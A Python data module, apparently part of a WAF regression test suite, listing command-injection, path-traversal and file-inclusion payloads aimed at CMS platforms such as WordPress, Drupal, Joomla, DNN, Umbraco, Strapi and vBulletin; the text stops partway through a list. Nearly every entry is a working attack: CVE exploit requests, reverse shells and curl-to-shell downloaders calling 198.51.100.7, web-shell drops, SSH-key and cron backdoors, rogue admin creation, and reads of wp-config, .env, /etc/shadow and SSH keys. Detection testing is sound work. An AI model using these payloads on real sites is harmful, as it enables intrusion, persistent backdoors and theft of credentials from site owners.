"""Blind set "twohundredthirteenth": OS command injection, local file inclusion / path traversal and remote file
inclusion the way they are aimed at content management and publishing platforms, with benign requests in which
editors, web producers and site developers type the same words innocently.

The angle: CMSs and everything around them, recalled from memory. WordPress core (admin-ajax, the REST API,
xmlrpc.php pingbacks, the oEmbed proxy) and its plugins and themes (slider, guestbook, download, backup and
migration plugins, TimThumb in old themes), Drupal (render arrays through the form API, the ImageMagick toolkit,
drush), Joomla components (the `option=com_...&controller=` includes), TYPO3, Ghost, Craft, Umbraco (XSLT
macros), Sitecore (PowerShell Extensions, speak bundles), Kentico, DNN (DNNPersonalization, the image handler),
headless CMSs (Strapi's plugin installer, Directus, Contentful and Sanity webhooks), wikis (MediaWiki Score and
LocalSettings, Confluence's widget connector `_template`, DokuWiki pages), forums (phpBB's ImageMagick path and
`phpbb_root_path`, vBulletin's `widget_php`), media libraries and image resizers (ImageTragick MVG, Ghostscript
PostScript thumbnails, ExifTool DjVu metadata), rich-text and Markdown exports, RSS/Atom aggregators and
import/export tools. Each payload uses its platform's own parameter name and quirks, and each list carries a
comment naming the platform and the target (shell, cmd.exe, PowerShell, PHP include, product, file system).

Families (one sub-family per detection title):
  rce: unix-command-injection (; | || && ` $() newline), unix-shell-evasion (quotes, ${IFS}, globbing, brace
    expansion, variables), windows-cmd-injection, powershell, unix-command-with-path, reverse-shell (bash
    /dev/tcp, nc, python, perl, socat), shellshock, downloader-pipe-to-shell (curl/wget | sh),
    file-write-via-shell (echo > / tee), restricted-file-in-command
  lfi: path-traversal (../ and ..\\ in every encoding), os-file-access (/etc/passwd, /proc/self/*, win.ini,
    boot.ini, web.config, .htaccess, .git/, .env, id_rsa), absolute-path, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-target, restricted-file-extension (.bak/.old/.config/.ini/.sql)
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocol-scheme (ftp://, smb://, \\\\host\\share, data:, expect:)

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under the platform's own parameter name (img, controller, abspath, src,
mosConfig_absolute_path, phpbb_root_path, ...), once the way a WAF regression suite sends it (placements prefixed
"rs-"): to CMS endpoints that are not our routes (admin-ajax.php, xmlrpc.php, the WP REST API, Joomla's
administrator, TYPO3, Ghost's admin API, Umbraco, Sitecore, Kentico, DNN, Strapi, MediaWiki, DokuWiki, phpBB,
vBulletin, Confluence) under arbitrary parameter names (foo, var, x, test, id, arg1). Whole exploit requests
keep their own shape: Strapi and Confluence JSON documents go as the JSON body, XML-RPC calls as the XML body,
Drupal, vBulletin and Joomla request strings as raw `name=value` query strings or form bodies (pre-encoded
sequences such as %2e%2e%2f or %00 go on the wire as written), DNN's profile as its cookie, Shellshock in
User-Agent, Referer, a cookie or a custom header, and zip-slip names as an upload's file name. Payloads with
control characters (newlines of MVG and PostScript files, NUL) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, CMS
exploits and advisories as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredthirteenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
# An item as written below: a payload (a parameter name from the category's rotation), (parameter, payload), or
# (parameter, payload, real placement, rs placement); a raw `name=value` request string names no parameter.
Item = str | tuple[str, str] | tuple[str, str, str, str]
JB = ("json-body", "rs-json-body")   # the whole JSON document of the exploit request
XB = ("xml", "rs-xml")   # the whole XML document (XML-RPC method calls)
KQ = ("query", "rs-query")   # a raw `name=value` query string
KF = ("form", "rs-raw-body")   # a raw `name=value` form body
CK = ("cookie", "rs-cookie")
UP = ("multipart-filename", "rs-multipart-filename")
SHELLSHOCK_PLACES = [("header:User-Agent", "rs-header:User-Agent"), ("header:Referer", "rs-header:Referer"),
                     ("cookie", "rs-cookie"), ("header:X-Api-Version", "rs-header:X-Test-Header")]

# ================================================================================================================
# rce
# ================================================================================================================

# unix-command-injection: the separators (; | || && ` $() newline) after the value a CMS feature hands to /bin/sh
# Target: the shell behind PHP exec()/system()/shell_exec() in plugins, media handlers and admin settings.
UNIX_INJECTION: list[Item] = [
    # WordPress "site health / uptime" style plugin that pings a host with shell_exec("ping -c 1 $host")
    ("host", "127.0.0.1;id"),
    ("host", "nonexistent.invalid || id"),
    ("ping_host", "8.8.8.8 | id"),
    # WordPress media library: ffmpeg poster frame for an uploaded video, the title reaches the command line
    ("filename", "clip.mp4;uname -a;"),
    # image resizer plugin calling `convert -resize $size`
    ("size", "800x600 && id"),
    # Drupal 7 ImageMagick toolkit: "Path to the convert binary" setting executed as typed
    ("imagemagick_convert", "/usr/bin/convert;id #"),
    # phpBB ACP attachment settings: "ImageMagick path", phpBB appends convert
    ("img_imagick", "/usr/bin/;id;#"),
    # Strapi (CVE-2019-19609): POST /admin/plugins/install, the plugin name reaches `npm run strapi install`
    ("", '{"plugin":"documentation && $(id > /tmp/strapi.txt)","port":"1337"}', *JB),
    # backup plugin: the archive name goes into `mysqldump ... > $name`
    ("backup_name", "site-backup`id`.sql"),
    # hosting panel plugin for multisite domains, wp-cli run per domain, newline as separator
    ("domain", "blog.example.com\nid"),
    # WP Pusher style deploy plugin: `git pull origin $branch`
    ("branch", "master; id"),
    # import tool converting .docx to HTML through unoconv: the output format flag
    ("format", "html$(id)"),
    # Markdown editor export through pandoc: the output file name
    ("output", "post.pdf`uname -a`"),
    # image resizer extra arguments on a new line
    ("convert_args", "-resize 50%\nid"),
    # media folder path handed to `du -sh $path` for the storage widget
    ("path", "uploads/2024/05 && id"),
    # ImageTragick (CVE-2016-3714): MVG file in the media library, the delegate URL breaks out of the quotes
    ("", 'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://127.0.0.1/oops.jpg"|id; ")\'\n'
         "pop graphic-context"),
    # Ghostscript (CVE-2018-16509): PostScript uploaded as a "PDF" for thumbnailing, %pipe% runs the command
    ("", "%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n"
         "{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops"),
    # vBulletin 5 (CVE-2019-16759): widget_php renders PHP, shell_exec runs the separated commands
    ("", "routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id;uname -a'); exit;", *KF),
]

# unix-shell-evasion: the same injection hidden from a keyword filter (quotes, ${IFS}, globbing, braces, variables)
# Target: bash/dash behind the same CMS features; each one still runs the command.
SHELL_EVASION: list[Item] = [
    ("host", "127.0.0.1;{cat,/etc/passwd}"),
    ("host", "127.0.0.1;cat${IFS}/etc/passwd"),
    ("size", "800x600;w'h'o'a'm'i"),
    ("size", '1x1;i""d'),
    ("filename", "a.jpg;/???/??t${IFS}/???/p??s??"),
    ("domain", "x;a=i;b=d;$a$b"),
    ("domain", "x;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"),
    ("plugin", "documentation && $(w\\ho\\am\\i)"),
    ("branch", "main;$(printf '\\151\\144')"),
    ("branch", "main;echo aWQ=|base64 -d|sh"),
    ("host", "x;`echo${IFS}dW5hbWUgLWE=|base64${IFS}-d`"),
    ("host", "x;$(tr 'a-y' 'b-z' <<< 'hc')"),
    ("path", "x;{ls,-la,/var/www/html/wp-content/uploads}"),
    ("path", "x;IFS=,;`cat<<<uname,-a`"),
    ("filename", "x;c\\at /e?c/p?ss??"),
    ("filename", "x;X=$'\\x69\\x64';$X"),
    ("size", "x;$(rev<<<di)"),
    ("host", "x;ca$@t /etc/passwd"),
]

# windows-cmd-injection: IIS-hosted CMSs (Umbraco, Sitecore, Kentico, DNN, WordPress on Windows)
# Target: cmd.exe behind Process.Start / exec() with a concatenated argument.
WINDOWS_CMD: list[Item] = [
    ("host", "127.0.0.1 & whoami"),
    ("host", "127.0.0.1 | type C:\\Windows\\win.ini"),
    ("host", "127.0.0.1 && net user"),
    ("file", 'report.pdf" & ver & "'),
    ("path", "C:\\inetpub\\wwwroot\\Umbraco\\media & dir C:\\"),
    ("host", "x & cmd /c ipconfig /all"),
    ("host", "x | cmd.exe /c set"),
    ("filename", "x & c^m^d /c who^ami"),
    ("filename", "x & %COMSPEC% /c whoami"),
    ("filename", 'x & cmd /v:on /c "set c=whoami&&call %c%"'),
    ("host", "x || ping -n 11 127.0.0.1"),
    ("path", "x & type C:\\inetpub\\wwwroot\\web.config"),
    ("path", 'x & reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion"'),
    ("file", 'x & wmic process call create "cmd /c whoami > C:\\Windows\\Temp\\o.txt"'),
    ("file", "x & net localgroup administrators"),
    # DNN (CVE-2017-9822): DNNPersonalization cookie deserialized by XmlSerializer, ObjectDataProvider starts cmd
    ("DNNPersonalization",
     '<profile><item key="name1:key1" type="System.Data.Services.Internal.ExpandedWrapper`2[[DotNetNuke.Common.'
     "Utilities.FileSystemUtils],[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0,"
     ' Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral,'
     ' PublicKeyToken=b77a5c561934e089"><ExpandedWrapperOfFileSystemUtilsObjectDataProvider><ProjectedProperty0>'
     "<ObjectInstance p3:type=\"Process\" xmlns:p3=\"http://www.w3.org/2001/XMLSchema-instance\"><StartInfo>"
     "<FileName>cmd</FileName><Arguments>/c whoami</Arguments></StartInfo></ObjectInstance>"
     "<MethodName>Start</MethodName></ProjectedProperty0></ExpandedWrapperOfFileSystemUtilsObjectDataProvider>"
     "</item></profile>", *CK),
    # Umbraco 7.12 (authenticated): the XSLT visualizer compiles msxsl:script C#, which starts cmd.exe
    ("ctl00$body$xsltSelection",
     '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
     'xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:csharp_user="http://csharp.mycompany.com/mynamespace">'
     '<msxsl:script language="C#" implements-prefix="csharp_user">public string xml(){System.Diagnostics.Process.'
     'Start("cmd.exe","/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt");return "";}</msxsl:script>'
     '<xsl:template match="/"><xsl:value-of select="csharp_user:xml()"/></xsl:template></xsl:stylesheet>',
     "form", "rs-form"),
]

# powershell: the same Windows hosts, the second stage in PowerShell (and Sitecore PowerShell Extensions)
# Target: powershell.exe / pwsh.
POWERSHELL: list[Item] = [
    ("host", '127.0.0.1 & powershell -NoP -NonI -W Hidden -Exec Bypass -c "Get-Process"'),
    ("host", "x & powershell -enc dwBoAG8AYQBtAGkA"),
    ("host", "x & powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"),
    ("file", 'x | powershell -c "Invoke-WebRequest -Uri http://198.51.100.7/s.exe -OutFile $env:TEMP\\s.exe;'
             ' Start-Process $env:TEMP\\s.exe"'),
    # Sitecore: the connection strings in App_Config
    ("file", 'x & powershell -c "Get-Content C:\\inetpub\\wwwroot\\App_Config\\ConnectionStrings.config"'),
    # DNN: grep the web.config for the database connection
    ("path", 'x & powershell -c "gc C:\\inetpub\\wwwroot\\dnn\\web.config | sls connectionString"'),
    ("path", "x & pwsh -c \"[System.Net.Dns]::GetHostAddresses((whoami)+'.oast.example.net')\""),
    ("host", "x & powershell -w hidden -c \"$c=New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444);"
             "$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0)"
             "{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);"
             "$o=([text.encoding]::ASCII).GetBytes($r);$s.Write($o,0,$o.Length)}\""),
    ("host", 'x & powershell "iex(iwr -UseBasicParsing http://198.51.100.7/r.ps1)"'),
    ("file", 'x & powershell -c "Add-MpPreference -ExclusionPath C:\\inetpub"'),
    ("path", 'x & powershell -c "Get-ChildItem -Recurse C:\\inetpub\\wwwroot -Include *.config"'),
    ("file", "x & powershell.exe -ExecutionPolicy Bypass -File \\\\198.51.100.7\\share\\p.ps1"),
    ("host", "x & powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\""),
    # Kentico: zip the App_Data folder into the web root to download it
    ("path", 'x & powershell -c "Compress-Archive -Path C:\\inetpub\\wwwroot\\Kentico\\CMS\\App_Data '
             '-DestinationPath C:\\inetpub\\wwwroot\\Kentico\\CMS\\d.zip"'),
    ("file", 'x & powershell -c "Invoke-RestMethod -Method Post -Uri http://198.51.100.7/x '
             '-InFile C:\\inetpub\\wwwroot\\web.config"'),
    # Sitecore PowerShell Extensions remoting (RemoteScriptCall.ashx) with a stolen admin session: the script body
    ("script", "Get-Item -Path master:\\content\\home | Out-Null; & cmd.exe /c whoami"),
    ("script", "Invoke-Expression 'cmd /c net user sc_backdoor P@ssw0rd1 /add'"),
]

# unix-command-with-path: commands named by absolute path (/bin, /usr/bin, /usr/local/bin)
# Target: /bin/sh, and Drupal's render pipeline / vBulletin / phpxmlrpc passing the string to passthru/exec.
UNIX_PATHS: list[Item] = [
    ("host", "127.0.0.1;/usr/bin/id"),
    ("host", "127.0.0.1|/bin/uname -a"),
    # Drupalgeddon 2 (CVE-2018-7600), Drupal 7: #post_render on the user/password form runs passthru
    ("", "q=user/password&name[#post_render][]=passthru&name[#type]=markup&name[#markup]=/usr/bin/id"
         "&form_id=user_pass&_triggering_element_name=name", *KQ),
    # Drupalgeddon 2, Drupal 8: the same through the register form's mail element and exec
    ("", "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup"
         "&mail[#markup]=/usr/bin/wget", *KF),
    # ExifTool (CVE-2021-22204): DjVu annotation in an uploaded image, evaluated by Perl while reading metadata
    ("", '(metadata "\\c${system(\'/usr/bin/id\')};")'),
    # phpxmlrpc (2005) bundled with Drupal/WordPress/phpBB: the parameter breaks out of eval(), system() runs
    ("", "<?xml version=\"1.0\"?><methodCall><methodName>test.method</methodName><params><param><value><name>',''));"
         " echo '---'; system('/usr/bin/id'); exit;/*</name></value></param></params></methodCall>", *XB),
    ("size", "1x1;/usr/bin/whoami"),
    ("imagemagick_convert", "/usr/local/bin/convert;/usr/bin/env"),
    ("host", "x;/sbin/ifconfig -a"),
    ("filename", "x;/usr/bin/perl -e 'print scalar getpwuid($<)'"),
    ("path", "x;/bin/ls -la /var/www/html"),
    ("filename", "x`/usr/bin/whoami`"),
    ("domain", "$(/usr/bin/id)"),
    ("domain", "x;/usr/bin/nslookup $(whoami).oast.example.net"),
    ("filename", "x;/usr/bin/php -r 'system(\"id\");'"),
    # WordPress: the users table with the password from wp-config.php
    ("host", "x;/usr/bin/mysql -u wp -p$(grep DB_PASSWORD wp-config.php|cut -d\"'\" -f4) "
             "-e 'select user_login,user_pass from wp_users' wordpress"),
    # Drupal: a one-time admin login link
    ("branch", "x && /usr/bin/drush uli --uri=https://example.org"),
    # WordPress: a new administrator through wp-cli
    ("branch", "x; /usr/local/bin/wp user create pwn pwn@example.net --role=administrator --allow-root"),
]

# reverse-shell: the shell sent back to the attacker (bash /dev/tcp, nc, python, perl, socat, php, node)
# Target: the CMS host's shell; Ghost and Strapi run on Node, so node too.
REVERSE_SHELL: list[Item] = [
    ("host", "127.0.0.1;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
    ("host", "x;bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'"),
    ("filename", "x;0<&196;exec 196<>/dev/tcp/198.51.100.7/4444; sh <&196 >&196 2>&196"),
    ("filename", "x;nc -e /bin/sh 198.51.100.7 4444"),
    ("size", "x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f"),
    ("size", "x;ncat 198.51.100.7 4444 -e /bin/bash"),
    ("host", "x;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));"
             "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("host", "x;perl -e 'use Socket;$i=\"198.51.100.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
             "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
             "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"),
    ("path", "x;socat tcp-connect:198.51.100.7:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane"),
    ("path", "x;php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("domain", "x;ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.7\",4444).to_i;"
               "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"),
    ("branch", "x;awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\";while(1){printf \"> \" |& s;s |& getline c;"
               "if(c){while((c |& getline) > 0)print $0 |& s;close(c)}}}'"),
    # Strapi (CVE-2019-19609): the plugin installer, a FIFO reverse shell
    ("", '{"plugin":"documentation && $(rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 '
         '>/tmp/f)","port":"1337"}', *JB),
    # vBulletin widget_php: shell_exec of a bash reverse shell
    ("", "routestring=ajax/render/widget_php&widgetConfig[code]=shell_exec('bash -c \"bash -i >& "
         "/dev/tcp/198.51.100.7/4444 0>&1\"');", *KF),
    # ImageTragick: the image-over URL in a backtick
    ("", "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://127.0.0.1/x.php?x=`bash -i >& "
         "/dev/tcp/198.51.100.7/4444 0>&1`'\npop graphic-context"),
    ("filename", "x;sh -i >& /dev/udp/198.51.100.7/53 0>&1"),
    # Ghost / Strapi hosts: node's child_process
    ("plugin", "x;node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 198.51.100.7 4444\")'"),
]

# shellshock: function definitions in request headers reaching bash through CGI
# Target: bash under CGI CMSs and wikis (Movable Type mt.cgi, TWiki/Foswiki, cPanel-hosted cgi-bin).
SHELLSHOCK_PAYLOADS = [
    "() { :; }; echo; /bin/id",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
    "() { ignored;}; /usr/bin/wget http://198.51.100.7/mt.txt -O /tmp/mt",
    "() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "() { _; } >_[$($())] { id; }",
    "() { (a)=>\\' bash -c \"echo id\"",
    "() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",
    "() { :; }; /bin/sleep 7",
    "() { :; }; /usr/bin/curl http://198.51.100.7/$(hostname)",
    # Movable Type: its configuration with the database password
    "() { :;}; echo; /bin/cat /var/www/cgi-bin/mt/mt-config.cgi",
    "() { :;}; /bin/ping -c 3 198.51.100.7",
    "() { x;};echo;/bin/uname -a",
    "() { :; }; /usr/bin/nslookup $(whoami).oast.example.net",
    "() { :; }; /bin/bash -c \"nc -e /bin/sh 198.51.100.7 4444\"",
    # TWiki: LocalSite.cfg
    "() { :; }; echo; /bin/cat /var/www/twiki/lib/LocalSite.cfg",
    "() { :; }; echo; /bin/ls -la /usr/lib/cgi-bin",
]
SHELLSHOCK: list[Item] = [("", v, *SHELLSHOCK_PLACES[i % len(SHELLSHOCK_PLACES)])
                          for i, v in enumerate(SHELLSHOCK_PAYLOADS)]

# downloader-pipe-to-shell: fetch a second stage and run it, or drop a web shell into the upload folders
# Target: the shell; the drop paths are each CMS's writable folder.
DOWNLOADERS: list[Item] = [
    ("host", "127.0.0.1;curl -s http://198.51.100.7/x.sh|sh"),
    ("host", "127.0.0.1|wget -qO- http://198.51.100.7/x.sh|bash"),
    ("filename", "x;wget http://198.51.100.7/shell.txt -O /var/www/html/wp-content/uploads/s.php"),
    ("filename", "x;curl -o /var/www/html/sites/default/files/x.php http://198.51.100.7/x.txt"),
    ("size", "x && curl http://198.51.100.7/k|bash -s"),
    ("domain", "$(curl -fsSL http://198.51.100.7/i.sh | sh)"),
    ("domain", "x;cd /tmp;wget http://198.51.100.7/bot;chmod +x bot;./bot"),
    ("path", "x;fetch -o - http://198.51.100.7/x.sh | sh"),
    ("branch", "x;python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.7/p.py').read())\""),
    ("branch", "x;curl -sk https://198.51.100.7/m -o /tmp/.m && sh /tmp/.m"),
    ("host", "x|busybox wget -O- http://198.51.100.7/b|sh"),
    # Strapi plugin installer
    ("", '{"plugin":"documentation && $(curl http://198.51.100.7/s.sh|sh)","port":"1337"}', *JB),
    # vBulletin 5 (CVE-2020-17496): the tabbed container's sub-widget template bypass
    ("", "routestring=ajax/render/widget_tabbedcontainer_tab_panel&subWidgets[0][template]=widget_php"
         "&subWidgets[0][config][code]=shell_exec('wget -qO- http://198.51.100.7/v.sh|sh');", *KF),
    # RSS aggregator fetching with `curl $feed_url`
    ("feed_url", "http://example.com/feed.xml`curl 198.51.100.7/f|sh`"),
    ("filename", "x;php -r 'file_put_contents(\"s.php\",file_get_contents(\"http://198.51.100.7/s.txt\"));'"),
    # Ghostscript thumbnailer: the %pipe% output device runs a downloader
    ("", "%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n"
         "{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%curl http://198.51.100.7/g.sh|sh) "
         "currentdevice putdeviceprops"),
    ("size", "x & certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Windows\\Temp\\a.exe"),
]

# file-write-via-shell: echo/printf/tee/cp a web shell, a config change or a key into place
# Target: the shell; the file system paths of WordPress, Drupal, Joomla, DNN, Ghost.
FILE_WRITE: list[Item] = [
    ("filename", "x;echo '<?php system($_GET[c]);?>' > /var/www/html/wp-content/uploads/c.php"),
    ("filename", "x;echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64 -d > /var/www/html/x.php"),
    ("size", "x;tee /var/www/html/sites/default/files/s.php <<< '<?php passthru($_REQUEST[1]);'"),
    # Joomla: the images folder is writable
    ("path", "x;printf '<?php eval($_POST[p]);' > /var/www/html/images/p.php"),
    ("host", "x;echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk8x0q attacker' >> ~/.ssh/authorized_keys"),
    ("host", "x;echo '*/5 * * * * bash -c \"sh -i >& /dev/tcp/198.51.100.7/9001 0>&1\"' | crontab -"),
    ("domain", "x;cp /var/www/html/wp-config.php /var/www/html/wp-content/uploads/c.txt"),
    ("domain", "x;cat /var/www/html/configuration.php > /var/www/html/tmp/j.txt"),
    ("branch", "x;echo \"define('DISALLOW_FILE_EDIT', false);\" >> /var/www/html/wp-config.php"),
    ("branch", "x;sed -i 's/DISALLOW_FILE_MODS/ALLOW_FILE_MODS/' /var/www/html/wp-config.php"),
    # DNN: an .aspx shell in the portal folder (cmd.exe echo with caret escapes)
    ("file", 'x & echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["c"],"unsafe");%^> '
             "> C:\\inetpub\\wwwroot\\dnn\\Portals\\0\\s.aspx"),
    ("filename", "x;echo 'AddType application/x-httpd-php .jpg' > /var/www/html/wp-content/uploads/.htaccess"),
    ("size", "x;echo '<?php $upgrading = time(); ?>' > /var/www/html/.maintenance"),
    ("path", "x;tee -a /var/www/html/.htaccess <<< 'php_value auto_prepend_file /tmp/p'"),
    # vBulletin widget_php writing a base64 web shell into core/
    ("", "routestring=ajax/render/widget_php&widgetConfig[code]=shell_exec('echo PD9waHAgQGV2YWwoJF9QT1NUWzFdKTs= "
         "| base64 -d > /var/www/html/core/x.php');", *KF),
    ("domain", "x;cp /bin/sh /tmp/s;chmod 4755 /tmp/s"),
    # Ghost: a theme template overwritten to leak the admin session
    ("plugin", "x;echo '{{!< default}}<script src=//198.51.100.7/g.js></script>' >> "
               "/var/www/ghost/content/themes/casper/post.hbs"),
]

# restricted-file-in-command: commands reading the files that hold every CMS's secrets
# Target: the shell; wp-config.php, configuration.php, settings.php, LocalConfiguration.php, config.production.json,
# .env, LocalSettings.php, DokuWiki's users.auth.php, phpBB's config.php, /etc/shadow, SSH keys.
RESTRICTED_IN_CMD: list[Item] = [
    ("host", "127.0.0.1;cat /etc/passwd"),
    ("host", "127.0.0.1 | cat /etc/shadow"),
    ("filename", "x;cat /var/www/html/wp-config.php"),
    ("filename", "x;head -n 40 ../configuration.php"),
    ("size", "x;more /var/www/drupal/sites/default/settings.php"),
    ("size", "x;cat typo3conf/LocalConfiguration.php"),
    ("path", "x;cat /var/www/ghost/config.production.json"),
    ("path", "x;cat /srv/strapi/.env"),
    ("domain", "x;cat /root/.ssh/id_rsa"),
    ("domain", "x;grep -r DB_PASSWORD /var/www"),
    ("branch", "x;base64 /etc/shadow"),
    ("host", "x;od -c /etc/passwd"),
    ("host", "x;xxd /var/www/craft/.env"),
    ("filename", "x;tac /proc/self/environ"),
    ("filename", "x;strings /var/www/html/LocalSettings.php"),
    ("size", "x;cat /var/www/dokuwiki/conf/users.auth.php"),
    ("size", "x;cat /var/www/phpbb/config.php"),
    ("file", "x & type C:\\inetpub\\wwwroot\\App_Config\\ConnectionStrings.config"),
]

# ================================================================================================================
# lfi
# ================================================================================================================

# path-traversal: ../ and ..\ in every encoding, aimed at the file parameters of CMS plugins and components
# Target: the product's file reader (readfile/file_get_contents/include) reaching the CMS's config file.
TRAVERSAL: list[Item] = [
    # Slider Revolution (WordPress), revslider_show_image through admin-ajax
    ("img", "../wp-config.php"),
    ("", "action=revslider_show_image&img=../wp-config.php", *KQ),
    # Google Document Embedder / db-backup style download handlers
    ("file", "../../../../wp-config.php"),
    # Membership Simplified download.php: the filter removes "../" once
    ("download_file", "..././..././..././wp-config.php"),
    # Joomla on Windows: the component controller include with backslashes
    ("controller", "..\\..\\..\\..\\configuration.php"),
    # a plugin that urldecode()s the already-decoded parameter once more (double encoding)
    ("file", "..%2f..%2f..%2fwp-config.php"),
    ("", "file=..%2f..%2f..%2f..%2fwp-config.php", *KQ),
    ("", "path=%2e%2e%2f%2e%2e%2f%2e%2e%2fconfiguration.php", *KQ),
    # Sitecore / Kentico on IIS: encoded backslashes
    ("", "f=%2e%2e%5c%2e%2e%5c%2e%2e%5cweb.config", *KQ),
    ("f", "..%252f..%252f..%252fwp-config.php"),
    # MediaWiki on a Java front end: overlong UTF-8 slash
    ("template", "..%c0%af..%c0%af..%c0%afLocalSettings.php"),
    # IIS %u encoding (DNN)
    ("file", "..%u2215..%u2215..%u2215web.config"),
    ("page", "....//....//....//wp-config.php"),
    # Confluence on Tomcat: path parameter traversal to WEB-INF
    ("", "/s/..;/..;/..;/WEB-INF/web.xml"),
    # Sitecore speak bundle handler
    ("f", "/sitecore/shell/client/../../../App_Config/ConnectionStrings.config"),
    ("filename", "..\\..\\..\\web.config"),
    ("file", "..%5c..%5c..%5cweb.config"),
    ("file", "%2e%2e/%2e%2e/%2e%2e/configuration.php"),
    ("file", ".%2e/.%2e/.%2e/wp-config.php"),
    # Joomla layout override include
    ("layout", "../../../../../configuration"),
    ("src", "..\\/..\\/..\\/wp-config.php"),
    # zip slip: the entry name of a theme / plugin / media zip (Ghost theme upload, WordPress plugin upload)
    ("", "../../../content/themes/casper/index.js", *UP),
    ("", "../../../../var/www/html/wp-content/uploads/shell.php", *UP),
    ("", "..\\..\\..\\inetpub\\wwwroot\\Portals\\0\\s.aspx", *UP),
]

# os-file-access: the operating system's and the server's own sensitive files
# Target: the file system through the plugin's download/preview parameter.
OS_FILES: list[Item] = [
    # Mail Masta (WordPress) count_of_send.php?pl=
    ("pl", "../../../../../../../../etc/passwd"),
    # Candidate Application Form (WordPress) downloadpdffile.php?fileName=
    ("fileName", "../../../../../../../../proc/self/environ"),
    # Ebook Download (WordPress) filedownload.php?ebookdownloadurl=
    ("ebookdownloadurl", "../../../../../../proc/self/cmdline"),
    ("file", "../../../../../../windows/win.ini"),
    ("file", "..\\..\\..\\..\\..\\boot.ini"),
    ("f", "../../../web.config"),
    ("file", "../../.htaccess"),
    ("file", "../../../.git/config"),
    ("file", "../../.git/logs/HEAD"),
    # Craft, Strapi, October CMS: the .env with the security key and database password
    ("file", "../../../../.env"),
    ("file", "../../../../../../home/deploy/.ssh/id_rsa"),
    ("file", "../../../../../../root/.ssh/id_rsa"),
    ("img", "../../../../../../proc/self/status"),
    ("file", "../../../../../../proc/self/cwd/wp-config.php"),
    ("file", "../../../../../etc/shadow"),
    ("file", "../../../.svn/entries"),
    ("file", "../../../../.htpasswd"),
    ("file", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("file", "../../../../../../proc/version"),
    ("file", "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("file", "../../../../../../home/ubuntu/.aws/credentials"),
    # Umbraco: the published content cache
    ("file", "..\\..\\App_Data\\umbraco.config"),
    ("file", "../../../../.git/index"),
    ("file", "../../../../etc/mysql/my.cnf"),
]

# absolute-path: an absolute path (or file: URL) where the plugin expects a relative one
# Target: the file system through the CMS handler; DNN's image handler and Confluence's widget connector included.
ABSOLUTE: list[Item] = [
    # Site Editor (WordPress) ajax_shortcode_pattern.php?ajax_path=
    ("ajax_path", "/etc/passwd"),
    # WP Hide & Security Enhancer: file_path relative to ABSPATH
    ("file_path", "/wp-config.php"),
